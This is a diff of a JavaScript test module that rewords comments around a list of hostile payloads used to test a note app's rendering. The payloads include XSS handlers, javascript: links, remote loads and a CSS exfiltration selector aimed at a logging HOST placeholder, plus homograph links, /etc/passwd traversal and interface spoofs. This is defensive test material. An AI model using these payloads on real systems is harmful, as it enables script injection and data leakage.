@@ -1,6 +1,5 @@
-// Texts that try to run script, to load from elsewhere, to lead the window away, or to look like a
-// part of it. `HOST` stands for a server that notices whoever asks it for anything; `canary()` is a
-// function in the window that only a script could call.
+// Texts that try to run scripts, load remote content, navigate the window, or imitate parts of it. `HOST` stands for
+// a server that records every request; `canary()` is a function in the window that only a script could call.
 import { readFile } from "node:fs/promises";
 
 const px = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg==";
@@ -26,7 +25,7 @@ export const payloads = [
   "<a onmouseover=canary('over') onpointerenter=canary('enter') href=#x>a</a>",
   "<x-y onclick=canary('own') tabindex=1 autofocus onfocus=canary('own') contenteditable>a</x-y>",
   "<dialog open onclose=canary('dialog')><button popovertarget=p>a</button></dialog><p popover id=p>b</p>",
-  // SVG and MathML, and what parsers make of them the second time
+  // SVG and MathML, including mutations on reparsing
   "<svg onload=canary('svg')><script>canary('svg script')</script></svg>",
   "<svg><animate onbegin=canary('begin') attributeName=x dur=1s></svg>",
   "<svg><a xlink:href=\"javascript:canary('xlink')\"><text y=20>a</text></a></svg>",
@@ -47,13 +46,13 @@ export const payloads = [
   "<a href=\"HOST/a\" ping=\"HOST/ping\" target=_blank download rel=prefetch>a</a>",
   "<area href=HOST/area><map name=m><area shape=default href=javascript:canary('area')></map><img usemap=#m src=x>",
   "[a](https://bank.example@evil.example/) [b](https://\u0430pple.com/) [c](https://a.example/\u202egnp.exe)",
-  // What leads away or asks
+  // Navigation and requests
   "<meta http-equiv=refresh content=\"0;url=HOST/refresh\">",
   "<base href=HOST/><base target=_blank>",
   "<form action=HOST/form id=f><input name=a><button>b</button></form><button form=f formaction=javascript:canary('form')>c</button>",
   "<iframe src=HOST/frame></iframe><iframe srcdoc=\"<script>parent.canary('srcdoc')</script>\"></iframe>",
   "<frameset><frame src=javascript:canary('frame')></frameset><portal src=HOST/portal></portal><fencedframe></fencedframe>",
-  // What loads
+  // Loading
   "<link rel=stylesheet href=HOST/l.css><link rel=prefetch href=HOST/p><link rel=dns-prefetch href=HOST><link rel=import href=HOST/i>",
   "<style>@import 'HOST/i.css'; body { display: none } input[value^=a] { background: url(HOST/a) }</style>",
   "<object data=HOST/o.swf></object><embed src=HOST/e.swf><applet code=a archive=HOST/a.jar></applet>",
@@ -62,7 +61,7 @@ export const payloads = [
   "![a](http:HOST/i.png) ![b](\\\\HOST\\i.png) ![c](vault://localhost/../../etc/passwd) ![d](data:image/svg+xml,<svg/onload=canary('svg')>)",
   "<video poster=HOST/p.png></video><table background=HOST/t.png></table><input type=image src=HOST/n.png>",
   "<p style=\"background:url(HOST/b.png);position:fixed;inset:0;z-index:9999\">a</p>",
-  // What looks like a part of the window
+  // Imitations of the window's parts
   "<div class=\"veil app-notice drop-veil panes\" style=\"position:fixed;inset:0\" data-testid=composer role=alert>a</div>",
   "<section class=\"reader scroll page\" id=app hidden><p class=\"chip current card\">1</p></section>",
   // Names that code looks up
@@ -96,7 +95,7 @@ export const payloads = [
   "```mermaid\ngraph TD; A-->B; click A \"javascript:canary('mermaid')\"\n```",
 ];
 
-/** Lists of texts in JSON files: of strings, or of objects with a `payload`. */
+/** Lists of texts in JSON files: strings, or objects with a `payload`. */
 export async function payloadsIn(files) {
   const lists = await Promise.all(
     files.map(async (file) => JSON.parse(await readFile(file, "utf8")).map((entry) => entry.payload ?? entry)),
@@ -104,17 +103,17 @@ export async function payloadsIn(files) {
   return lists.flat();
 }
 
-/** Names of notes, by payload: the key alone can be typed to find them. */
+/** Short names of notes by payload, which can be typed to find them. */
 const key = (number) => `k${String(number).padStart(4, "0")}`;
 
-/** What a file system takes of a text as a name. */
+/** The part of a text that is valid in a file name. */
 function nameOf(text) {
   let name = text.replaceAll("/", "\u2215").replaceAll("\0", "");
   while (Buffer.byteLength(name) > 200) name = [...name].slice(0, -1).join("");
   return name.isWellFormed() ? name : name.toWellFormed();
 }
 
-/** The notes that show a payload in every place that a note has for a text. */
+/** Notes with the payload in every place for text. */
 function notesOf(payload, key) {
   const line = payload.replace(/[\r\n]+/g, " ");
   const json = JSON.stringify(payload);
@@ -149,7 +148,7 @@ function notesOf(payload, key) {
   ];
 }
 
-/** All notes for these payloads, with `HOST` filled in. */
+/** All notes for these payloads, with `HOST` replaced. */
 export function hostileNotes(payloads, host) {
   return payloads.map((payload, number) => {
     const text = payload.replaceAll("HOST", host);
